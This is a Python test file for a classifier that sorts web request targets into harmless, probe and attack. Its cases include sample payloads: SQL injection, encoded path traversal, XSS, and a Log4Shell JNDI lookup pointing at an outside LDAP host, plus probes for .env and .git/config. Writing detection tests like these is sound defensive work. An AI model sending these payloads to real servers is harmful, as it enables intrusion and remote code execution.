"""Probes and attacks in request targets."""

from __future__ import annotations

import polars as pl
import pytest

from floorwalker.events.requests import ODD_TARGET
from floorwalker.features.danger import ATTACK, HARMLESS, PROBE, judge_targets


@pytest.mark.parametrize(
    ("target", "danger"),
    [
        ("/product/environment-friendly-bag", HARMLESS),
        ("/search?q=union+jack+select+edition", HARMLESS),
        ("/filter/27|13,b113,p53", HARMLESS),
        ("/%D8%AE%D8%A7%D9%86%D9%87", HARMLESS),
        ("/shop/.ENV", PROBE),
        ("/old/.git/config", PROBE),
        ("/wp-login.php?redirect_to=/", PROBE),
        ("/item?id=7+UNION+SELECT+password", ATTACK),
        ("/static/..%2F..%2Fetc/hosts", ATTACK),
        ("/?x=${jndi:ldap://203.0.113.9/a}", ATTACK),
        ("/search?q=%3Cscript%3Ealert(1)", ATTACK),
        (ODD_TARGET, PROBE),
        ("/" + ODD_TARGET, HARMLESS),
    ],
)
def test_targets_are_judged(target: str, danger: int) -> None:
    assert judge_targets(pl.Series([target])).tolist() == [danger]


def test_no_target_and_none_at_all() -> None:
    assert judge_targets(pl.Series([None, ""], dtype=pl.String)).tolist() == [HARMLESS, HARMLESS]
    assert judge_targets(pl.Series([], dtype=pl.String)).tolist() == []
